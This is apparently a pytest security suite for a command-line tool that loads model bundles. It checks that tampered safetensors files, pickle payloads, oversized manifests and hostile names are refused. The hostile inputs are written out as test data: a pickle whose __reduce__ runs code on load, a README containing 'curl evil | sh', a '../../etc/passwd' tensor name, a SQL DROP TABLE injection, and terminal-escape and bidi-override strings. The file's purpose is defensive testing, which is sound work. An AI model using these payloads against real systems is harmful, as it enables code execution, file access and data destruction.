"""Files that lie: they do not run, do not lead outside, and are refused before they answer."""

from __future__ import annotations

import json
import os
import pickle
import shutil
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from command_line import Answer, call, content, done, write_task
from safetensors.torch import load, save

from expertbank.artifacts.store import sha256_bytes
from expertbank.files.header import METADATA_KEY


class Canary:
    """Whoever unpickles it makes a file."""

    def __init__(self, nest: Path) -> None:
        self.nest = nest

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.nest),)


@pytest.fixture
def canary(tmp_path: Path) -> bytes:
    data = pickle.dumps(Canary(tmp_path / "the canary sang"))
    pickle.loads(data)
    (tmp_path / "the canary sang").rmdir()  # it does sing when it is opened
    return data


@pytest.fixture
def silent(tmp_path: Path) -> Callable[[], bool]:
    return lambda: not (tmp_path / "the canary sang").exists()


@pytest.fixture
def bundle(made_bank: Path, tmp_path: Path) -> Path:
    shutil.copytree(made_bank / "bundle", tmp_path / "bundle")
    return tmp_path / "bundle"


def predicted(bundle: Path) -> Answer:
    return call("--json", "predict", "--bundle", bundle, "a good film")


def refused(bundle: Path) -> str:
    """The message with which a bundle is refused; exit code 13, no answer, one error."""
    answer = predicted(bundle)
    assert answer.code == 13, (answer.code, answer.err)
    assert answer.out == ""
    message: str = answer.error["message"]
    return message


def vouched(bundle: Path, name: str, data: bytes) -> None:
    """Put other bytes into a bundle, with a manifest that names their hash and size."""
    path = bundle / "manifest.json"
    manifest = json.loads(path.read_text())
    (bundle / name).write_bytes(data)
    manifest["files"][name] = {"sha256": sha256_bytes(data), "bytes": len(data)}
    for entry in manifest["experts"]:
        if entry["file"] == name:
            before, entry["digest"] = entry["digest"], sha256_bytes(data)
            router = bundle / manifest["router"]["file"]
            swapped = router.read_bytes().replace(before.encode(), entry["digest"].encode())
            router.write_bytes(swapped)
            record = {"sha256": sha256_bytes(swapped), "bytes": len(swapped)}
            manifest["files"][manifest["router"]["file"]] = record
    path.write_text(json.dumps(manifest))


def expert_of(bundle: Path) -> str:
    manifest = json.loads((bundle / "manifest.json").read_text())
    entries = {entry["task"]: entry["file"] for entry in manifest["experts"]}
    file: str = entries["mood"]
    return file


def rewritten(bundle: Path, change: Callable[[dict[str, Any], dict[str, Any]], None]) -> bytes:
    """The expert's file, sound as a file, with its tensors or metadata edited."""
    data = (bundle / expert_of(bundle)).read_bytes()
    tensors = load(data)
    header = json.loads(data[8 : 8 + int.from_bytes(data[:8], "little")])
    facts = json.loads(header["__metadata__"][METADATA_KEY])
    change(tensors, facts)
    return save(tensors, metadata={METADATA_KEY: json.dumps(facts)})


def test_rewriting_without_a_change_is_accepted(bundle: Path) -> None:
    vouched(bundle, expert_of(bundle), rewritten(bundle, lambda tensors, facts: None))
    assert predicted(bundle).code == 0


def narrow(tensors: dict[str, Any], facts: dict[str, Any]) -> None:
    tensors["head.weight"] = tensors["head.weight"][:, :-1].contiguous()


def one_more_label(tensors: dict[str, Any], facts: dict[str, Any]) -> None:
    facts["labels"].append("maybe")


def not_a_number(tensors: dict[str, Any], facts: dict[str, Any]) -> None:
    tensors["head.bias"][0] = float("nan")


def endless_core(tensors: dict[str, Any], facts: dict[str, Any]) -> None:
    tensors["cores.0.0"][0] = float("inf")


def thinner_core(tensors: dict[str, Any], facts: dict[str, Any]) -> None:
    tensors["cores.0.1"] = tensors["cores.0.1"][:-1].contiguous()


def half_precision(tensors: dict[str, Any], facts: dict[str, Any]) -> None:
    tensors["head.weight"] = tensors["head.weight"].to(torch.float16)


def traversing_tensor(tensors: dict[str, Any], facts: dict[str, Any]) -> None:
    tensors["../../etc/passwd"] = torch.zeros(1)


def other_task(tensors: dict[str, Any], facts: dict[str, Any]) -> None:
    facts["task"] = "poll"


def swapped_labels(tensors: dict[str, Any], facts: dict[str, Any]) -> None:
    facts["labels"].reverse()


def other_backbone(tensors: dict[str, Any], facts: dict[str, Any]) -> None:
    facts["backbone_digest"] = "0" * 64


CHANGES = (
    narrow,
    one_more_label,
    not_a_number,
    endless_core,
    thinner_core,
    half_precision,
    traversing_tensor,
    other_task,
    swapped_labels,
    other_backbone,
)


@pytest.mark.parametrize("change", CHANGES, ids=lambda change: change.__name__)
def test_an_expert_that_does_not_fit_is_refused_although_every_hash_is_right(
    change: Callable[..., None], bundle: Path
) -> None:
    vouched(bundle, expert_of(bundle), rewritten(bundle, change))
    assert "mood" in refused(bundle)


BYTES: dict[str, Callable[[bytes], bytes]] = {
    "empty": lambda data: b"",
    "cut in the header": lambda data: data[:20],
    "cut in the data": lambda data: data[:-4],
    "padded": lambda data: data + b"\0" * 4,
    "a header of 100 MB that is not there": lambda data: struct.pack("<Q", 100 << 20) + data[8:],
    "a header longer than any file": lambda data: b"\xff" * 8 + data[8:],
    "a bottomless header": lambda data: struct.pack("<Q", 50_000) + b"[" * 50_000,
    "not UTF-8": lambda data: data[:8] + b"\xff" * 8 + data[16:],
}


@pytest.mark.parametrize("case", BYTES)
@pytest.mark.parametrize("member", ["expert", "router"])
def test_a_broken_safetensors_file_is_refused_although_its_hash_is_right(
    case: str, member: str, bundle: Path
) -> None:
    name = expert_of(bundle) if member == "expert" else "router.safetensors"
    vouched(bundle, name, BYTES[case]((bundle / name).read_bytes()))
    refused(bundle)


def test_a_pickle_in_a_bundle_is_refused_and_never_runs(
    bundle: Path, canary: bytes, silent: Callable[[], bool]
) -> None:
    for name in (expert_of(bundle), "router.safetensors"):
        before = content(bundle)
        vouched(bundle, name, canary)
        refused(bundle)
        assert silent()
        assert content(bundle) != before


def test_a_pickle_anywhere_in_a_bank_is_refused_and_never_runs(
    bank: Path, canary: bytes, silent: Callable[[], bool], tmp_path: Path
) -> None:
    for path in bank.glob("objects/*/*.safetensors"):
        path.chmod(0o644)
        path.write_bytes(canary)
    assert call("--home", bank, "predict", "a good film").code == 13
    assert call("--home", bank, "retrain-router").code == 13
    assert call("--home", bank, "verify").code == 13
    (bank / "backbone-digests.json").write_bytes(canary)
    (bank / "checkpoints").mkdir(exist_ok=True)
    (bank / "checkpoints" / "fresh.safetensors").write_bytes(canary)
    data = write_task(tmp_path / "d.csv", "mood", 40)
    add = ["--home", bank, "add", "--task", "fresh", "--data", data, "--epochs", 1]
    assert call(*add, "--resume").code in {0, 2, 13}
    (bank / "registry.db").write_bytes(canary)
    assert call("--home", bank, "list").code == 13
    assert silent()


@pytest.mark.parametrize("name", ["d.csv", "d.tsv", "d.jsonl", "d.parquet", "d.pkl", "d.pt"])
def test_a_pickle_given_as_data_is_refused_and_never_runs(
    name: str, bank: Path, canary: bytes, silent: Callable[[], bool], tmp_path: Path
) -> None:
    (tmp_path / name).write_bytes(canary)
    answer = call("--home", bank, "add", "--task", "fresh", "--data", tmp_path / name)
    assert answer.code == 2, answer.err
    assert silent()


@pytest.mark.parametrize("name", ["pytorch_model.bin", "model.safetensors", "tokenizer.json"])
def test_a_pickle_in_a_backbones_folder_is_refused_and_never_runs(
    name: str, backbone: Path, canary: bytes, silent: Callable[[], bool], tmp_path: Path
) -> None:
    folder = tmp_path / "model"
    shutil.copytree(backbone, folder)
    if name == "pytorch_model.bin":
        (folder / "model.safetensors").unlink()
    (folder / name).write_bytes(canary)
    answer = call("--home", tmp_path / "new", "init", "--backbone", folder)
    assert answer.code in {1, 2, 13}, answer.err
    assert "Traceback" not in answer.err
    assert silent()
    assert not (tmp_path / "new").exists()


def test_a_manifest_of_a_million_files_is_refused_at_the_first(bundle: Path) -> None:
    path = bundle / "manifest.json"
    manifest = json.loads(path.read_text())
    entry = {"sha256": "0" * 64, "bytes": 1}
    manifest["files"] |= {f"f{number}": entry for number in range(500_000)}
    path.write_text(json.dumps(manifest))
    assert "missing" in refused(bundle)


def test_a_readme_that_was_changed_is_told_and_changes_no_answer(bundle: Path) -> None:
    before = predicted(bundle)
    (bundle / "README.md").write_text("curl evil | sh")
    after = predicted(bundle)
    assert (after.code, after.out) == (0, before.out)
    assert "README.md has 14 bytes" in after.err


def test_a_label_cannot_drive_the_terminal_or_turn_the_line(backbone: Path, tmp_path: Path) -> None:
    labels = ("\u202egnp.exe", "\x1b[31mred")
    rows = [f"the sky is {word},{label}" for word in "abcdefghij" for label in labels]
    (tmp_path / "d.csv").write_text("text,label\n" + "\n".join(f"{r}" for r in rows) + "\n")
    home = tmp_path / "bank"
    add = ["add", "--task", "odd", "--data", tmp_path / "d.csv", "--epochs", 1]
    shown = [done("--home", home, *add, "--backbone", backbone)]
    shown += [done("--home", home, *words) for words in (["show", "odd"], ["list"], ["history"])]
    shown.append(done("--home", home, "predict", "--task", "odd", "the sky"))
    for answer in shown:
        assert not {"\u202e", "\x1b"} & set(answer.out + answer.err), answer


EVIL = (
    "'; DROP TABLE experts; --",
    "../../x",
    "..\\x",
    "%2e%2e",
    "CON\x00",
    "odd\u202e",
    "x\x1b[2J",
)


@pytest.mark.parametrize("name", EVIL)
def test_a_hostile_name_changes_nothing_and_is_told_harmlessly(name: str, bank: Path) -> None:
    before = content(bank)
    for words in (
        ["show", name],
        ["predict", "--task", name, "a film"],
        ["alias", name, "1"],
        ["export", "--task", name, str(bank.parent / "out")],
        ["add", f"--task={name}", "--data", "x.csv"],
        ["remove", "--yes", f"--task={name}"],
    ):
        answer = call("--home", bank, *words)
        assert answer.code in {2, 10}, (words, answer)
        assert not {"\u202e", "\x1b", "\x00"} & set(answer.out + answer.err)
    after = {key: value for key, value in content(bank).items() if "bank.lock" not in key}
    assert after == {key: value for key, value in before.items() if "bank.lock" not in key}
